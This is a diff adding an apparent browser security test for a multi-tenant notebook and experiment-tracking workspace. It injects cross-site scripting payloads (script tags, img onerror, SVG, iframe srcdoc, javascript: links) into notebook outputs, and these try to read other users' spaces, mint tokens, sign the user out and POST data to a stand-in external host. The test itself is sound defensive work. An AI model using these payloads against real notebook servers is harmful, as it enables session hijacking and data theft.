@@ -1,0 +1,216 @@
+import { existsSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { workspaceFolder } from './command.ts';
+
+const executablePath = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find(existsSync);
+const args = ['--no-sandbox', '--disable-gpu', '--disable-background-networking'];
+const patience = { timeout: 120_000 };
+
+const workspace = workspaceFolder();
+const { path: folder, atelier, json } = workspace;
+const file = `workspace: shops
+people: { lead: { role: lead-data-scientist }, july: { role: data-scientist }, john: { role: data-scientist } }
+projects: { sales: { members: [lead, july, john] }, costs: { members: [lead, july] } }
+`;
+
+let browser: Browser;
+let context: BrowserContext;
+let page: Page;
+let port = '';
+/** What has come to where the internet would be: a server of our own, by a name that this browser alone knows. */
+const elsewhere: string[] = [];
+let elsewherePort = 0;
+const internet = createServer((asked, response) => {
+  elsewhere.push(`${asked.method} ${asked.url}`);
+  response.end();
+});
+
+/** Script that tries the portal, the other spaces and tracking, and marks in the page that it ran and what it was told. */
+function attack(kind: string): string {
+  const at = (label: string) => `http://${label}localhost:${port}`;
+  const read = [
+    `http://elsewhere.test:${elsewherePort}/data-of-the-project`,
+    ...['', 'tokens', 'openapi.json', 'device', 'spaces/july/costs/lab'].map((path) => `${at('')}/${path}`),
+    ...['john--sales.', 'july--costs.', 'lead--sales.'].map((label) => `${at(label)}/api/contents`),
+    ...['sales', 'costs'].map((project) => `${at(`tracking-${project}.`)}/ajax-api/2.0/mlflow/experiments/search`),
+  ];
+  const send = [
+    [`${at('')}/open-space`, 'project=costs'],
+    [`${at('')}/sign-out`, ''],
+    [`${at('')}/tokens`, JSON.stringify({ name: 'theirs', scope: 'all', project: null, keys: false })],
+    [`${at('tracking-costs.')}/api/2.0/mlflow/experiments/create`, JSON.stringify({ name: 'theirs' })],
+    [`${at('july--costs.')}/api/contents`, JSON.stringify({ type: 'notebook' })],
+    [`http://elsewhere.test:${elsewherePort}/`, 'data of the project'],
+  ];
+  return `(async () => {
+    const said = [];
+    const note = (text) => { if (text) said.push(text); };
+    for (const mode of ['cors', 'no-cors']) {
+      for (const address of ${JSON.stringify(read)}) {
+        await fetch(address, { mode, credentials: 'include' }).then((one) => one.text()).then(note, () => undefined);
+      }
+      for (const [address, body] of ${JSON.stringify(send)}) {
+        for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json']) {
+          const headers = { 'content-type': type };
+          await fetch(address, { method: 'POST', mode, credentials: 'include', headers, body }).then((one) => one.text()).then(note, () => undefined);
+        }
+        navigator.sendBeacon(address, body);
+      }
+    }
+    for (const address of ${JSON.stringify(read)}) for (const name of ['img', 'script', 'iframe', 'object', 'embed', 'video', 'link']) {
+      const one = Object.assign(document.createElement(name), { src: address, data: address, rel: 'stylesheet', href: address });
+      document.body.append(one);
+      setTimeout(() => one.remove(), 1500);
+    }
+    for (const label of ['', 'john--sales.', 'july--costs.', 'tracking-costs.']) {
+      await new Promise((resolve) => {
+        const socket = new WebSocket('ws://' + label + 'localhost:${port}/api/kernels/1/channels');
+        socket.onopen = () => { note('a websocket'); resolve(); };
+        socket.onerror = resolve;
+      });
+    }
+    await navigator.serviceWorker?.register('/files/worker.js').then(() => note('a worker'), () => undefined);
+    const top = window.top ?? window;
+    try {
+      top.ran = { ...top.ran, ${JSON.stringify(kind)}: said };
+    } catch {
+      // A frame without an origin, whose own page nobody sees.
+    }
+  })()`;
+}
+
+/** What a notebook can put out that a browser may run, by kind. */
+function outputs(): Readonly<Record<string, object>> {
+  const html = (kind: string) => `<script>${attack(kind)}</script>`;
+  const image = (kind: string) =>
+    `<img src="x:" onerror="${attack(kind).replaceAll('&', '&amp;').replaceAll('"', '&quot;')}">`;
+  return {
+    html: { 'text/html': html('html') },
+    handler: { 'text/html': image('handler') },
+    javascript: { 'application/javascript': attack('javascript') },
+    svg: {
+      'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg"><script>${attack('svg').replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script></svg>`,
+    },
+    markdown: { 'text/markdown': `**text** ${image('markdown')} [here](javascript:top.ran)` },
+    latex: { 'text/latex': `$\\href{javascript:top.ran}{x}$ ${image('latex')}` },
+    srcdoc: {
+      'text/html': `<iframe srcdoc="${html('srcdoc').replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`,
+    },
+    sandboxed: {
+      'text/html': `<iframe sandbox="allow-scripts allow-forms allow-popups" srcdoc="${html('sandboxed').replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`,
+    },
+    widget: {
+      'application/vnd.jupyter.widget-view+json': { model_id: 'x', version_major: 2, version_minor: 0 },
+      'text/html': html('widget'),
+    },
+  };
+}
+
+/** As a cell says it, so that the page trusts what it puts out. */
+function code(data: object): string {
+  return `import json; from IPython.display import display; display(json.loads(${JSON.stringify(JSON.stringify(data))}), raw=True)`;
+}
+
+/** What july was let do in her browser so far. */
+async function allowed(): Promise<string[]> {
+  const { out } = await atelier('audit', '--person', 'july', '--json');
+  const entries = out.split(/\n/).filter((line) => line.startsWith('{'));
+  return entries
+    .map((line) => JSON.parse(line) as { request: string; allowed: boolean; by: string })
+    .filter((one) => one.allowed && one.by.startsWith('session'))
+    .map(({ request }) => request);
+}
+
+describe.skipIf(executablePath === undefined)(
+  "somebody else's output in july's notebook (skipped without Chromium)",
+  () => {
+    beforeAll(async () => {
+      writeFileSync(join(folder, 'atelier.yaml'), file);
+      const up = await atelier('up');
+      if (up.code !== 0) throw new Error(up.err);
+      await new Promise<void>((resolve) => internet.listen(0, '127.0.0.1', resolve));
+      elsewherePort = (internet.address() as AddressInfo).port;
+      const names = '--host-resolver-rules=MAP elsewhere.test 127.0.0.1';
+      browser = await chromium.launch({ executablePath: executablePath ?? '', args: [...args, names] });
+      context = await browser.newContext();
+      page = await context.newPage();
+      const { url } = (await json('person', 'invite', 'july')) as unknown as { url: string };
+      port = new URL(url).port;
+      await page.goto(url);
+      for (const name of ['password', 'again']) await page.fill(`input[name="${name}"]`, 'correct horse battery');
+      await page.getByRole('button', { name: /password/i }).click();
+      await page.getByRole('button', { name: 'Sign out' }).waitFor(patience);
+      for (const project of ['costs', 'sales']) {
+        await page.goto(`http://localhost:${port}/`);
+        await page.getByRole('region', { name: project }).getByRole('button', { name: 'Open my notebooks' }).click();
+        await page.locator('.jp-LauncherCard').first().waitFor(patience);
+      }
+      for (const project of ['costs', 'sales']) {
+        await page.goto(`http://tracking-${project}.localhost:${port}/`);
+        await page.waitForURL(/tracking-/, patience);
+      }
+    });
+
+    afterAll(async () => {
+      await browser?.close();
+      internet.close();
+      internet.closeAllConnections();
+      await workspace.remove();
+    });
+
+    test('does nothing anywhere else in her name, whatever kind it is of', async () => {
+      await page.goto(`http://july--sales.localhost:${port}/lab?reset`);
+      await page.locator('.jp-LauncherCard[data-category="Notebook"]').first().click(patience);
+      await page.getByText('Python 3 (ipykernel) | Idle').first().waitFor(patience);
+      const before = new Set(await allowed());
+      const kinds = Object.entries(outputs());
+      for (const [, data] of kinds) {
+        await page.locator('.jp-CodeCell').last().locator('.cm-content').click();
+        await page.keyboard.insertText(code(data));
+        await page.keyboard.press('Shift+Enter');
+      }
+      const ran = ['html', 'javascript', 'srcdoc'];
+      await page.waitForFunction(
+        `${JSON.stringify(ran)}.every((kind) => window.ran?.[kind] !== undefined)`,
+        undefined,
+        patience,
+      );
+      await page.waitForLoadState('networkidle');
+      const told = (await page.evaluate('window.ran')) as Record<string, string[]>;
+      // It ran, and was told nothing.
+      expect(Object.values(told).flat()).toEqual([]);
+      const after = (await allowed()).filter(
+        (request) => !before.has(request) && !request.includes('july--sales.localhost'),
+      );
+      expect(after).toEqual([]);
+      expect(Object.keys(told)).toEqual(expect.arrayContaining(ran));
+      expect(elsewhere).toEqual([]);
+    });
+
+    test('would send what it has read to the internet, were it not for the headers of its page', async () => {
+      const open = await browser.newContext({ bypassCSP: true, storageState: await context.storageState() });
+      const lies = await open.newPage();
+      await lies.goto(`http://july--sales.localhost:${port}/lab`);
+      await lies.evaluate(attack('open'));
+      await expect.poll(() => elsewhere.some((asked) => asked.startsWith('POST')), patience).toBe(true);
+      await open.close();
+    });
+
+    test('has neither signed her out nor made a token, and left her other space and tracking alone', async () => {
+      const home = await context.newPage();
+      await home.goto(`http://localhost:${port}/`);
+      await home.getByRole('heading', { name: 'Welcome, july' }).waitFor(patience);
+      const tokens = await home.evaluate("fetch('/tokens').then((one) => one.json())");
+      expect(tokens).toMatchObject({ tokens: [] });
+      const found = await home.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)');
+      expect(found).toBe(0);
+      await home.goto(`http://tracking-costs.localhost:${port}/`);
+      expect(await home.locator('body').textContent()).not.toContain('theirs');
+      await home.close();
+    });
+  },
+);
